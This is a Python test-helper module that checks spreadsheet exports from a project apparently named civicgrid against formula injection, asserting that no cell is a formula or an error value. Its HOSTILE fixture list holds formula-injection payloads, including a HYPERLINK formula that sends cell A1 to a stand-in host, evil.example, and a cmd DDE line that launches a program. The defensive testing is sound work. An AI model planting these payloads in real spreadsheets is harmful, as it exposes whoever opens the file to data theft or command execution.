"""Assertions that tests of several packages share."""

import io
import zipfile

from openpyxl import load_workbook

from civicgrid.lib import xlsx

# Each of these, typed into Excel or LibreOffice, would run as a formula.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def assert_all_text(content: bytes, planted=()) -> None:
    """No cell of any sheet is a formula or an error value, every string is a
    string cell, and each planted value comes back exactly as it was."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = load_workbook(io.BytesIO(content))
    found = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type in ("s", "n", "d"), (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    if cell.value.startswith(xlsx.FORMULA_STARTS):
                        assert cell.quotePrefix, cell.value
                    found.add(cell.value)
    # A carriage return comes back as written (openpyxl escapes it when lxml
    # is installed) or as a line feed (XML's line-end rule, without lxml).
    missing = [
        value for value in planted if value not in found and value.replace("\r", "\n") not in found
    ]
    assert not missing, missing
